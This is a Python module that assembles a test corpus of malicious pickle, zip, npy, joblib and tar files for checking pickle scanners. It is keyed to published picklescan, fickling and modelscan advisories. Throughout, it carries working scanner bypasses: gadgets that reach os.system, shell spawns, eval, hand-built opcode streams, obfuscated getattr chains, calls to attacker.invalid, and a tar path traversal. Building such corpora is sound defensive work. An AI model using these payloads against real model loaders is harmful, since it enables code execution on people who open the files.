"""Published ways past scanners of pickles, under the ids of their advisories or issues.

Every GHSA id is an advisory of picklescan (github.com/mmaitre314/picklescan) or, where the name says so, of fickling
(github.com/trailofbits/fickling); `modelscan-N` is issue N of github.com/protectai/modelscan. CVE ids without either
belong to the library that is named.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from corpora.assembly import COMMAND, EXPRESSION, SOURCE, applied, call, described, harmless, model, pushed, shell
from corpora.case import Case, Expectation, Technique
from corpora.hostile.carried_code import MARSHALLED
from corpora.hostile.envelopes import Member, npy, tar_of, zipped
from corpora.hostile.joblib_files import objects
from telamon.kits.attacks.pickles import Program

if TYPE_CHECKING:
    from collections.abc import Iterator

NAME: Final = b"archive/data.pkl"
SHELL: Final = ["/bin/sh", "-c", COMMAND]
CRACK: Final = "numpy.f2py.crackfortran"
BOTTLENECK: Final = "torch.utils.bottleneck.__main__"

GADGETS: Final[tuple[tuple[str, str, str, tuple[object, ...]], ...]] = (
    ("CVE-2025-1716-GHSA-655q-fx9r-782v", "pip", "main", (["install", "attacker"],)),
    ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit", ("", SOURCE)),
    ("GHSA-4r9r-ch6f-vxmx", BOTTLENECK, "run_cprofile", (EXPRESSION, {})),
    ("GHSA-4whj-rm5r-c2v8", BOTTLENECK, "run_autograd_prof", (EXPRESSION, {})),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, EXPRESSION)),
    (
        "GHSA-f4x7-rfwp-v3xw",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        ({}, EXPRESSION, []),
    ),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (COMMAND,)),
    (
        "GHSA-jhph-76pp-mggw",
        "torch.utils.collect_env",
        "run_and_read_all",
        (Program(protocol=4).global_("torch.utils.collect_env", "run"), COMMAND),
    ),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"N.")),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (SOURCE, {}, {})),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", ({}, b"N.")),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, EXPRESSION)),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, EXPRESSION, {}, {})),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, EXPRESSION)),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, EXPRESSION, {}, {})),
    ("GHSA-7wx9-6375-f5wh", "profile", "run", (EXPRESSION,)),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (EXPRESSION,)),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (EXPRESSION, None, None)),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"N.")),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + EXPRESSION)),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, EXPRESSION)),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, EXPRESSION)),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, EXPRESSION, 1)),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, EXPRESSION)),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (EXPRESSION,)),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, EXPRESSION)),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, EXPRESSION)),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, EXPRESSION)),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", ({}, EXPRESSION)),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (["install", "attacker"],)),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (SOURCE, True)),
    (
        "GHSA-q77w-mwjj-7mqx",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        ({}, COMMAND, True, None, None, None, 0),
    ),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("telamon-canary", ["x"])),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,)),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (SHELL,)),
    ("GHSA-hgrh-qx5j-jfwx", "pty", "spawn", ("/bin/sh",)),
    ("GHSA-r8g5-cgf2-4m4m", CRACK, "getlincoef", (EXPRESSION, [])),
    ("GHSA-rrxm-2pvv-m66x", CRACK, "getlincoef", (EXPRESSION, {"x": None})),
    ("GHSA-6556-fwc2-fg2p", CRACK, "_eval_length", (EXPRESSION, {})),
    ("GHSA-3329-ghmp-jmv5", CRACK, "myeval", (EXPRESSION,)),
    ("GHSA-cffc-mxrf-mhh4", CRACK, "param_eval", (EXPRESSION, {}, {})),
    ("GHSA-m7j5-r2p5-c39r", "logging", "FileHandler", ("telamon-canary",)),
    ("GHSA-g38g-8gr9-h9xp-uuid", "uuid", "_get_command_stdout", ("touch", "telamon-canary")),
    ("GHSA-g38g-8gr9-h9xp-osx-support", "_osx_support", "_read_output", (COMMAND,)),
    ("GHSA-g38g-8gr9-h9xp-aix-support", "_aix_support", "_read_cmd_output", (COMMAND,)),
    ("GHSA-g38g-8gr9-h9xp-pager", "_pyrepl.pager", "pipe_pager", ("", COMMAND)),
    ("GHSA-g38g-8gr9-h9xp-imaplib", "imaplib", "IMAP4_stream", (COMMAND,)),
    ("GHSA-g38g-8gr9-h9xp-test", "test.support.script_helper", "assert_python_ok", ("-c", SOURCE)),
    ("fickling-GHSA-wfq2-52f7-7qvj", "runpy", "run_path", ("attacker.py",)),
    ("fickling-GHSA-p523-jq9w-64x9", "cProfile", "run", (SOURCE,)),
    ("fickling-GHSA-q5qq-mvfm-j35x", "multiprocessing.util", "spawnv_passfds", (b"/bin/sh", SHELL, ())),
    ("fickling-GHSA-83pf-v6qq-pwmr", "smtplib", "SMTP", ("attacker.invalid", 25)),
    ("fickling-GHSA-5hwf-rc88-82xm", "_osx_support", "_find_build_tool", ("x; " + COMMAND,)),
    ("fickling-GHSA-m6fh-58r7-x697", "_posixsubprocess", "fork_exec", (SHELL, [b"/bin/sh"], True, ())),
    ("fickling-GHSA-m6fh-58r7-x697-site", "site", "addsitedir", ("attacker",)),
    ("modelscan-338-mlflow", "mlflow.projects.backend.local", "_run_entry_point", (COMMAND, ".", "", "")),
    ("modelscan-338-pandas", "pandas.io.parsers.readers", "read_csv", ("https://attacker.invalid/x",)),
    ("CVE-2022-45907-torch", "torch.jit.annotations", "parse_type_line", (EXPRESSION, None, 1)),
    ("CVE-2015-20107-mailcap", "mailcap", "findmatch", ({}, "x/y", "view", "x; " + COMMAND)),
    ("CVE-2020-14343-yaml", "yaml", "full_load", ("!!python/object/new:os.system [x]",)),
    ("CVE-2023-50447-pillow", "PIL.ImageMath", "eval", (EXPRESSION,)),
)


def cases() -> Iterator[Case]:
    """Yield gadgets, chains of them, parser tricks and containers."""
    for name, module, attribute, arguments in GADGETS:
        yield _case(name, call(module, attribute, *arguments).finished(), described(module, attribute, arguments))
    for name, program in _chains():
        yield _case(name, program.finished())
    for name, body in _streams():
        yield _case(name, body)
    yield from _files()


def _case(name: str, data: bytes, twin: bytes | None = None, file_name: str = "model.bin") -> Case:
    return Case(name=name, technique=Technique.ADVISORIES, data=data, twin=twin, file_name=file_name)


def _chains() -> Iterator[tuple[str, Program]]:
    system = call("builtins", "__import__", "os")
    yield "GHSA-955r-x9j8-7rhh", applied(call("_operator", "methodcaller", "system", COMMAND), system)
    yield "GHSA-46h3-79wf-xr6c", applied(applied(call("_operator", "attrgetter", "system"), system), COMMAND)
    yield (
        "GHSA-84r2-jw7c-4r5q",
        applied(call("operator", "methodcaller", "system", COMMAND), call("pydoc", "locate", "os")),
    )
    yield "GHSA-vvpj-8cmc-gx39", applied(call("pkgutil", "resolve_name", "os:system"), COMMAND)
    yield (
        "GHSA-9m3x-qqw2-h32h",
        applied(call("builtins", "getattr", Program(protocol=4).global_("builtins", "eval"), "__call__"), EXPRESSION),
    )
    yield (
        "fickling-GHSA-565g-hwwr-4pp3",
        applied(call("types", "FunctionType", call("marshal", "loads", MARSHALLED), {})),
    )
    yield "fickling-GHSA-5hvc-6wx8-mvv4", applied(call("pydoc", "locate", "ctypes.windll.kernel32.WinExec"), b"x", 1)
    yield (
        "fickling-GHSA-q5qq-mvfm-j35x-ctypes",
        applied(call("builtins", "getattr", call("ctypes", "CDLL", "libc.so.6"), "system"), COMMAND.encode()),
    )
    yield (
        "fickling-GHSA-q5qq-mvfm-j35x-importlib",
        applied(call("builtins", "getattr", call("importlib", "import_module", "os"), "system"), COMMAND),
    )
    yield (
        "fickling-GHSA-q5qq-mvfm-j35x-code",
        applied(call("builtins", "getattr", call("code", "InteractiveInterpreter"), "runsource"), SOURCE),
    )
    yield "fickling-GHSA-h4rm-mm56-xf63", applied(call("builtins", "getattr", system, "system"), COMMAND)
    yield "modelscan-267", call("pickle", "loads", model(shell(2)))
    builtins_ = call("importlib", "import_module", "builtins")
    text = call("builtins", "getattr", builtins_, "str")
    joined = applied(call("builtins", "getattr", text, "join"), "", ["o", "s"])
    named = applied(call("builtins", "getattr", text, "join"), "", ["sys", "tem"])
    imported = applied(call("builtins", "getattr", builtins_, "__import__"), joined)
    yield "modelscan-331", applied(call("builtins", "getattr", imported, named), COMMAND)


def _streams() -> Iterator[tuple[str, bytes]]:
    argument = pushed(COMMAND)
    yield "GHSA-9gvj-pp9x-gcfr", b"S'os'\nS'system'\n\x93" + argument + b"\x85R."
    yield (
        "picklescan-22",
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(" + argument + b"tR.",
    )
    call_first = b"\x80\x04cos\nsystem\n" + argument + b"\x85R0"
    yield "picklescan-missing-memo-key", call_first + b"\x8c\x02os\x94h\x03h\x00\x93KB."
    yield "picklescan-type-confusion", call_first + b"J\x2a\0\0\0\x94\x8c\x02os\x94h\x00h\x01\x93KB."
    yield "picklescan-broken-length", b"cbuiltins\nexec\n(X>\x0a\0\0open('x')tRX."
    yield "picklescan-inst", b"(S'raise RuntimeError'\ni__builtin__\nexec\n."
    yield "fickling-GHSA-mxhj-88fx-4pcv", b"\x80\x04(csmtplib\nSMTP\n" + pushed("127.0.0.1") + b"o0N."
    yield (
        "fickling-GHSA-mhc9-48gj-9gp3",
        b"\x80\x04csocketserver\nTCPServer\n" + pushed((("", 9999), None)) + b"R}b.",
    )
    yield "fickling-GHSA-r7v6-mfhq-g3m2", b"\x80\x04(cpty\nspawn\nS'id'\no."
    yield (
        "modelscan-330",
        bytes.fromhex("80048c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f939494")
        + b"h\x01}}\x8c\x05shapeh\x03s\x86bh\x01h\x01\x8c\x04eval\x86R"
        + pushed(EXPRESSION)
        + b"\x85R.",
    )


def _files() -> Iterator[Case]:
    bad, good = model(shell(2)), model(harmless(2))

    def archive(**changes: object) -> bytes:
        return zipped(Member(name=NAME, data=bad, **changes))  # type: ignore[arg-type]  # fields by name

    yield _case("CVE-2025-1889", bad, good, "config.p")
    yield _case("CVE-2025-1944-GHSA-7q5r-7gvp-wc82", archive(local_name=b"archive/datap.kl"), file_name="m.pt")
    yield _case("CVE-2025-1945", archive(flags=0x1, local_flags=0), file_name="m.pt")
    yield _case("CVE-2025-1945-0x20", archive(flags=0x20, local_flags=0x20), file_name="m.pt")
    yield _case("CVE-2025-1945-0x40", archive(flags=0x40, local_flags=0x40), file_name="m.pt")
    yield _case("CVE-2025-10155-GHSA-jgw4-cr84-mqxg", bad, good, "model.pt")
    yield _case("CVE-2025-10156-GHSA-mjqp-26hc-grxg", archive(wrong_checksum=1), file_name="m.pt")
    start = call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, COMMAND, True, None, None, None, 0)
    yield _case("CVE-2025-10157-GHSA-f7qq-56ww-84cr", start.finished())
    yield _case("CVE-2019-6446-numpy", npy(bad), npy(good), "array.npy")
    yield _case("CVE-2020-13091-pandas", bad, good, "frame.pkl")
    yield _case("CVE-2020-13092-scikit-learn", bad, good, "model.joblib")
    yield _case(
        "CVE-2024-34997-joblib",
        b"\x80\x04" + objects(shell()) + b".",
        b"\x80\x04" + objects(harmless()) + b".",
        "model.joblib",
    )
    yield Case(
        name="CVE-2007-4559-tarfile",
        technique=Technique.ADVISORIES,
        data=tar_of({"../../../home/user/.profile": b"x"}),
        expectation=Expectation.FLAGGED,
    )
